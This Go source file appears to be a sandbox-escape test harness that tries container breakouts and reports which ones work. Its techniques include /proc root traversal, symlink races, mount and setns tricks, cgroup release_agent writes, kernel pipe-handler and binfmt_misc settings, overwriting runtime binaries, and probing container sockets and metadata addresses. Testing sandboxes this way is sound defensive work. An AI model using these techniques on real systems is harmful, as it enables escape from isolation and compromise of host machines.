package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"github.com/warren-sandbox/warren/driver/drivertest/field"
)

// attacks maps a case of the security list to what it tries. Each gets the field and returns what it could do.
var attacks = map[string]func(f field.Field, args []string, r *field.Report){
	"A01": searchFlag,
	"A02": writeOut,
	"A04": walkSyscalls,
	"A05": mountOut,
	"A06": cgroupOut,
	"A07": kernelSettings,
	"A08": raceDevices,
	"A09": leakedDescriptors,
	"A10": overwritePrograms,
	"A11": reachSockets,
	"A12": reachNetwork,
	"A18": scanPeers,
	"A20": exhaust,
	"A21": rareSyscalls,
	"A24": readHelper,
	"A25": readSecrets,
	"A27": lookAround,
}

// attack runs one case and prints its report. Arguments: the case, the field as JSON, and what the case takes.
func attack(args []string) error {
	run := attacks[args[0]]
	if run == nil {
		return fmt.Errorf("no attack %q", args[0])
	}
	var f field.Field
	if err := json.Unmarshal([]byte(args[1]), &f); err != nil {
		return err
	}
	var r field.Report
	run(f, args[2:], &r)
	return json.NewEncoder(os.Stdout).Encode(r)
}

// smallFile reads the beginning of a file without waiting for a FIFO or a device.
func smallFile(path string, most int64) []byte {
	f, err := os.OpenFile(path, os.O_RDONLY|unix.O_NONBLOCK|unix.O_NOCTTY, 0)
	if err != nil {
		return nil
	}
	defer f.Close()
	f.SetReadDeadline(time.Now().Add(time.Second))
	b, _ := io.ReadAll(io.LimitReader(f, most))
	return b
}

// roots are ways to the root of other processes.
func roots() []string {
	list := []string{"", "/proc/self/root", "/proc/self/cwd" + strings.Repeat("/..", 30), "/proc/thread-self/root"}
	procs, _ := filepath.Glob("/proc/[0-9]*")
	for _, p := range procs {
		list = append(list, p+"/root", p+"/cwd"+strings.Repeat("/..", 30))
		for fd := range 20 {
			list = append(list, fmt.Sprintf("%s/fd/%d%s", p, fd, strings.Repeat("/..", 30)))
		}
	}
	return list
}

// searchFlag looks for the flag by name in every place that could lead out, and then in every small file that shows.
func searchFlag(f field.Field, _ []string, r *field.Report) {
	for _, root := range roots() {
		r.Tried++
		r.Look(root+f.Read, smallFile(root+f.Read, 4096))
	}
	procs, _ := filepath.Glob("/proc/[0-9]*/fd/*")
	for _, fd := range procs {
		r.Tried++
		if fi, err := os.Stat(fd); err == nil && fi.Mode().IsRegular() && fi.Size() < 1<<20 {
			r.Look(fd, smallFile(fd, 1<<20))
		}
	}
	until := time.Now().Add(30 * time.Second)
	filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		// The rest of /proc and /sys is looked at above and in A27; a toolchain's own tree is as public as it is big.
		if d.IsDir() && (path == "/proc" || path == "/sys" || path == "/usr/lib" || path == "/usr/share" || path == "/usr/local/go") {
			return filepath.SkipDir
		}
		if time.Now().After(until) {
			return filepath.SkipAll
		}
		info, err := d.Info()
		if err != nil || !info.Mode().IsRegular() || info.Size() > 4096 {
			return nil
		}
		r.Tried++
		r.Look(path, smallFile(path, 4096))
		return nil
	})
}

// writeOut writes through names and links that could lead out.
func writeOut(f field.Field, _ []string, r *field.Report) {
	target := filepath.Join(f.Write, "target")
	put := func(path string) {
		r.Tried++
		if fd, err := os.OpenFile(path, os.O_WRONLY|os.O_TRUNC|unix.O_NONBLOCK, 0); err == nil {
			fd.WriteString(field.Marker)
			fd.Close()
		}
	}
	for _, root := range roots() {
		put(root + target)
	}
	for _, dir := range []string{"/workspace", "/tmp", "/mnt/probe", "/dev/shm", "/home/user", "/var/tmp", "/.warren", "/run"} {
		for _, to := range []string{target, strings.Repeat("../", 30) + target, "/proc/1/root" + target, "/proc/self/root" + target} {
			link := filepath.Join(dir, field.Marker+"-link")
			os.Remove(link)
			if os.Symlink(to, link) != nil {
				continue
			}
			put(link)
			dirLink := link + "-dir"
			os.Remove(dirLink)
			os.Symlink(filepath.Dir(to), dirLink)
			put(filepath.Join(dirLink, "target"))
			os.WriteFile(filepath.Join(dirLink, field.Marker), []byte("x"), 0o644)
			os.Link(link, link+"-hard")
			put(link + "-hard")
			for _, l := range []string{link, dirLink, link + "-hard"} {
				os.Remove(l)
			}
		}
	}
	os.Rename(filepath.Join(f.Write, "target"), filepath.Join(f.Write, field.Marker))
	os.Chmod(f.Write, 0o700)
	os.Chown(f.Read, 12345, 12345)
}

// mountOut mounts by the old and the new interface, with and without new namespaces, and enters those of others.
func mountOut(f field.Field, _ []string, r *field.Report) {
	// A thread whose namespaces change is of no use to others.
	runtime.LockOSThread()
	where := []string{f.Write, "/mnt", "/workspace", "/tmp"}
	for range 2 {
		for _, dir := range where {
			os.MkdirAll(dir, 0o777)
			r.Tried += 3
			unix.Mount(field.Marker, dir, "tmpfs", 0, "")
			unix.Mount("/dev", dir, "", unix.MS_BIND, "")
			unix.Unmount(dir, unix.MNT_DETACH)
			if fd, err := unix.Fsopen("tmpfs", 0); err == nil {
				unix.FsconfigSetString(fd, "source", field.Marker)
				unix.FsconfigCreate(fd)
				if m, err := unix.Fsmount(fd, 0, 0); err == nil {
					unix.MoveMount(m, "", unix.AT_FDCWD, dir, unix.MOVE_MOUNT_F_EMPTY_PATH)
				}
			}
		}
		for _, dev := range []string{"/dev/vda", "/dev/sda", "/dev/vda1", "/dev/sda1", "/dev/root"} {
			r.Tried++
			for _, kind := range []string{"ext4", "xfs", "btrfs"} {
				if unix.Mount(dev, "/mnt", kind, unix.MS_RDONLY, "") == nil {
					r.Did = append(r.Did, "mount the disk "+dev)
				}
			}
		}
		for pid := range 3 {
			for _, ns := range []string{"user", "mnt", "pid", "net", "ipc", "uts", "cgroup"} {
				if fd, err := unix.Open(fmt.Sprintf("/proc/%d/ns/%s", pid+1, ns), unix.O_RDONLY, 0); err == nil {
					r.Tried++
					unix.Setns(fd, 0)
				}
			}
		}
		r.Look("the flag after setns", smallFile(f.Read, 4096))
		unix.Unshare(unix.CLONE_NEWNS)
		unix.PivotRoot("/proc/1/root", "/proc/1/root/mnt")
	}
}

// cgroupOut writes the control files that make a kernel run programs or open devices.
func cgroupOut(f field.Field, _ []string, r *field.Report) {
	payload := filepath.Join(f.Write, field.Marker)
	dirs, _ := filepath.Glob("/sys/fs/cgroup/*")
	dirs = append(dirs, "/sys/fs/cgroup")
	for _, kind := range []string{"memory", "devices", "rdma", "freezer", "cpu", "pids"} {
		dir := "/tmp/" + field.Marker + "-" + kind
		os.MkdirAll(dir, 0o755)
		if unix.Mount("cgroup", dir, "cgroup", 0, kind) == nil {
			dirs = append(dirs, dir)
		}
	}
	two := "/tmp/" + field.Marker + "-v2"
	os.MkdirAll(two, 0o755)
	if unix.Mount("none", two, "cgroup2", 0, "") == nil {
		dirs = append(dirs, two)
	}
	for _, dir := range dirs {
		child := filepath.Join(dir, field.Marker)
		os.Mkdir(child, 0o755)
		for _, w := range [][2]string{
			{dir + "/release_agent", payload}, {child + "/notify_on_release", "1"}, {dir + "/notify_on_release", "1"},
			{dir + "/devices.allow", "a *:* rwm"}, {child + "/devices.allow", "a *:* rwm"},
			{child + "/cgroup.procs", "0"}, {dir + "/cgroup.procs", "1"}, {dir + "/cgroup.subtree_control", "+memory"},
		} {
			r.Tried++
			write(w[0], w[1])
		}
	}
}

// write writes to an existing file.
func write(path, text string) error {
	f, err := os.OpenFile(path, os.O_WRONLY|unix.O_NONBLOCK, 0)
	if err != nil {
		return err
	}
	_, err = f.WriteString(text)
	return errors.Join(err, f.Close())
}

// kernelSettings writes the settings through which a kernel runs programs. In a sandbox they are absent, refused or its own.
func kernelSettings(f field.Field, _ []string, r *field.Report) {
	for _, path := range field.Controls() {
		for _, prefix := range []string{"", "/proc/1/root", "/proc/self/root"} {
			r.Tried++
			write(prefix+path, "|"+filepath.Join(f.Write, field.Marker))
		}
	}
	write("/proc/sys/fs/binfmt_misc/register", ":"+field.Marker+":M::WARREN::"+f.Write+"/x:")
	unix.Sethostname([]byte(field.Marker))
	if f.Twin {
		return // its proc is the kernel's own, with nothing in front
	}
	// A mount of its own gives nothing more.
	dir := "/tmp/" + field.Marker + "-proc"
	os.MkdirAll(dir, 0o755)
	if unix.Mount("proc", dir, "proc", 0, "") == nil {
		for _, path := range field.Controls() {
			r.Tried++
			write(dir+strings.TrimPrefix(path, "/proc"), "|"+filepath.Join(f.Write, field.Marker))
		}
	}
}

// raceDevices replaces devices by links to the target while others open them.
func raceDevices(f field.Field, args []string, r *field.Report) {
	target := filepath.Join(f.Write, "target")
	until := time.Now().Add(seconds(args, 3))
	unix.Unmount("/dev/null", unix.MNT_DETACH)
	for time.Now().Before(until) {
		for _, dev := range []string{"/dev/null", "/dev/console", "/dev/pts/0", "/dev/tty", "/dev/ptmx", "/dev/stdout", "/proc/self/fd/1"} {
			r.Tried++
			aside := dev + field.Marker
			if os.Rename(dev, aside) != nil {
				continue
			}
			os.Symlink(target, dev)
			time.Sleep(2 * time.Millisecond)
			os.Remove(dev)
			os.Rename(aside, dev)
		}
	}
}

func seconds(args []string, or int) time.Duration {
	if len(args) > 0 {
		if n, err := strconv.Atoi(args[0]); err == nil {
			or = n
		}
	}
	return time.Duration(or) * time.Second
}

// leakedDescriptors looks for a descriptor that leads out, as a directory to change into or a file to read.
func leakedDescriptors(f field.Field, _ []string, r *field.Report) {
	relative := strings.TrimPrefix(f.Read, "/")
	for _, proc := range []string{"/proc/self", "/proc/1", "/proc/thread-self"} {
		for fd := range 65 {
			r.Tried++
			link := fmt.Sprintf("%s/fd/%d", proc, fd)
			if os.Chdir(link) != nil {
				continue
			}
			cwd, _ := os.Readlink("/proc/self/cwd")
			for _, name := range []string{"flag", "read/flag", strings.Repeat("../", 40) + relative} {
				r.Look(link+"/"+name, smallFile(name, 4096))
			}
			r.Text += cwd + "\n"
		}
	}
	os.Chdir("/")
}

// overwritePrograms replaces the programs that run the sandbox.
func overwritePrograms(f field.Field, _ []string, r *field.Report) {
	list := append([]string{"/proc/self/exe", "/proc/1/exe", "/.warren/guest"}, f.Binaries...)
	more, _ := filepath.Glob("/proc/[0-9]*/exe")
	list = append(list, more...)
	for _, path := range f.Binaries {
		list = append(list, "/proc/1/root"+path)
	}
	for _, path := range list {
		r.Tried++
		if fd, err := os.OpenFile(path, os.O_WRONLY|os.O_TRUNC, 0); err == nil {
			fd.WriteString(field.Marker)
			fd.Close()
		}
		// Held open for reading, a program can be written once nobody runs it.
		if fd, err := os.Open(path); err == nil {
			write(fmt.Sprintf("/proc/self/fd/%d", fd.Fd()), field.Marker)
			fd.Close()
		}
	}
}

// reachSockets connects to every socket in the file system and every abstract name.
func reachSockets(f field.Field, _ []string, r *field.Report) {
	paths := []string{f.Socket, "/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/crio/crio.sock", "/run/podman/podman.sock",
		"/var/lib/warren/warren.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/tmp/.X11-unix/X0", f.Abstract, "@/tmp/.X11-unix/X0", "@/containerd-shim"}
	for _, root := range []string{"/proc/1/root", "/proc/self/root"} {
		paths = append(paths, root+f.Socket)
	}
	until := time.Now().Add(20 * time.Second)
	filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() && (path == "/proc" || path == "/sys" || path == "/usr") {
			return fs.SkipDir
		}
		if d.Type()&fs.ModeSocket != 0 {
			paths = append(paths, path)
		}
		if time.Now().After(until) {
			return fs.SkipAll
		}
		return nil
	})
	table := smallFile("/proc/net/unix", 1<<20)
	for line := range strings.Lines(string(table)) {
		if fields := strings.Fields(line); len(fields) == 8 {
			paths = append(paths, fields[7])
		}
	}
	for _, path := range paths {
		r.Tried++
		dialReport(r, "unix", path)
	}
}

// reachNetwork connects to the host's listener by every name and address that a host may have.
func reachNetwork(f field.Field, _ []string, r *field.Report) {
	hosts := append([]string{"127.0.0.1", "127.0.0.2", "::1", "0.0.0.0", "::", "::ffff:127.0.0.1", "fe80::1%lo", "10.0.0.1", "10.0.2.2", "10.0.2.3", "169.254.169.254", "172.17.0.1",
		"192.168.0.1", "192.168.127.1", "192.168.65.2", "100.64.0.1", "localhost", "host.docker.internal", "gateway.docker.internal", "host.containers.internal", "gateway"}, f.Addresses...)
	for _, host := range hosts {
		r.Tried++
		dialReport(r, "tcp", net.JoinHostPort(host, strconv.Itoa(f.Port)))
		if c, err := net.DialTimeout("udp", net.JoinHostPort(host, strconv.Itoa(f.Port)), time.Second); err == nil {
			c.Write([]byte(field.Marker))
			c.Close()
		}
	}
}

// dialReport notes the canary that the field's listeners tell to whoever reaches them.
func dialReport(r *field.Report, network, address string) {
	c, err := net.DialTimeout(network, address, 2*time.Second)
	if err != nil {
		return
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(2 * time.Second))
	var b bytes.Buffer
	io.Copy(&b, io.LimitReader(c, 1<<12))
	r.Look(network+" "+address, b.Bytes())
}
